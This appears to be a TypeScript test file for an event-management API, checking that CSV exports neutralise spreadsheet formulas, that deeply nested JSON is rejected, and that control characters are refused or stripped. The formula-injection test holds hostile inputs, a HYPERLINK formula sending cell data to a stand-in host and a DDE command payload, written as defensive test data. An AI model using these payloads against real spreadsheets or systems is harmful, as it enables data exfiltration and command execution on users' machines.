import ical from 'node-ical';
import { makeAdmin, makeEdition, makeUser, TEST_PASSWORD, type TestUser } from '../factories/index.js';
import { insertPerson, insertSession, insertSpeaker } from '../factories/programme-rows.js';
import { xsdErrors } from '../support/frab-validators.js';
import { forbiddenCharacter } from '../../src/common/validation/input-text.js';
import { makeRoom, makeSession, sessionBody } from '../factories/programme.js';
import { makeOpenEdition, registered } from '../factories/registrations.js';
import { openCfp, submit } from '../factories/submissions.js';
import { csvRows, formulaCells } from '../support/csv-cells.js';
import { createTestApp, type TestApp } from '../setup/test-app.js';

/** Issue 13, items 4, 8 and 9: what users type reaches exports, parsers and writers safely (each test failed before its fix). */
describe('security review: input findings', () => {
  let t: TestApp;
  let admin: TestUser;
  beforeAll(async () => {
    t = await createTestApp();
    admin = await makeAdmin(t);
  });
  afterAll(() => t.close());

  it('4. no export hands a spreadsheet a formula: registrations, sessions and submissions CSV', async () => {
    const event = await makeOpenEdition(t, admin, openCfp());
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
    const attendee = await makeUser(t, 'formula', hyperlink);
    await registered(t, attendee, event.id, 'in_person');
    const speaker = await makeUser(t, 'formula-speaker', "@SUM(1+1)*cmd|' /C calc'!A0");
    await submit(t, event.id, speaker, { title: { en: '+1+1 formula title', zh: '-2+3' } });
    const room = await makeRoom(t, admin, event.id);
    await makeSession(t, admin, event.id, sessionBody('2025-09-11', '09:00', '10:00', { roomId: room.id, title: { en: '=1+1', zh: '＝1+1' } }));

    const exports = {
      'registrations.csv': hyperlink,
      'submissions.csv': '+1+1 formula title',
      'sessions.csv': '=1+1',
    };
    for (const [file, typed] of Object.entries(exports)) {
      const res = await t.http().get(`/api/v1/events/${event.id}/${file}`).set(admin.auth).expect(200);
      expect({ file, formulas: formulaCells(res.text) }).toEqual({ file, formulas: [] });
      expect(csvRows(res.text).flat()).toContain(`'${typed}`);
    }
  });

  it('8. 10,000 nested arrays from an anonymous caller get 400 naming the depth, not 500', async () => {
    const deep = '['.repeat(10_000) + ']'.repeat(10_000);
    for (const route of ['/api/v1/auth/login', '/api/v1/auth/register']) {
      const res = await t.http().post(route).set('Content-Type', 'application/json').send(deep).expect(400);
      expect(res.body).toMatchObject({ statusCode: 400, code: 'VALIDATION_FAILED', details: [{ messages: ['is nested more than 32 levels deep'] }] });
    }
    const objects = '{"a":'.repeat(5_000) + '1' + '}'.repeat(5_000);
    await t.http().post('/api/v1/events').set(admin.auth).set('Content-Type', 'application/json').send(objects).expect(400);
    // The service is still up.
    await t.http().get('/health').expect(200);
  });

  it('9. control characters are refused in every text input, nested fields and query strings included, naming the field', async () => {
    const bell = await t.http().post('/api/v1/auth/register').send({ email: 'bell@example.org', password: TEST_PASSWORD, name: 'Li\u0007 Wei' }).expect(400);
    expect(bell.body).toMatchObject({ code: 'VALIDATION_FAILED', details: [{ field: 'name', messages: ['must not contain control characters (found U+0007)'] }] });
    const event = await makeEdition(t, admin);
    const csi = await t.http().patch(`/api/v1/events/${event.id}`).set(admin.auth).send({ title: { en: 'Fine', zh: '年会\u009B31m' } }).expect(400);
    expect(csi.body.details).toEqual([{ field: 'title.zh', messages: ['must not contain control characters (found U+009B)'] }]);
    const query = await t.http().get('/api/v1/events').query({ slug: 'a\u001Bb' }).expect(400);
    expect(query.body.details).toEqual([{ field: 'slug', messages: ['must not contain control characters (found U+001B)'] }]);
    // Tab and line breaks stay allowed where text allows them, and so do Chinese and emoji.
    await t.http().patch(`/api/v1/events/${event.id}`).set(admin.auth).send({ title: { en: 'Annual\tMeeting 🎗️', zh: '年会' } }).expect(200);
  });

  it('9. the frab XML and the iCalendar export stay valid when control characters were stored before the rule', async () => {
    const event = await makeEdition(t, admin);
    const sessionId = await insertSession(t, event.id, { startsAt: '2025-09-11T01:00:00Z', endsAt: '2025-09-11T02:00:00Z', title: 'Bell\u0007 session\u001B' });
    await insertPerson(t, event.id, sessionId, await insertSpeaker(t, { en: 'Zhang\u0007 Min\u0085', zh: '张\u0007敏' }));

    const xml = await t.http().get(`/api/v1/events/${event.id}/schedule.xml`).expect(200);
    expect(await xsdErrors(xml.text)).toEqual([]);
    expect(xml.text).toContain('Zhang Min');
    expect(xml.text).toContain('Bell session');

    const ics = await t.http().get(`/api/v1/events/${event.id}/schedule.ics`).expect(200);
    expect(forbiddenCharacter(ics.text)).toBeNull();
    const entries = Object.values(ical.sync.parseICS(ics.text)).filter((c) => c?.type === 'VEVENT');
    expect(entries.map((e) => (e as { summary: string }).summary)).toEqual(['Bell session']);
  });
});
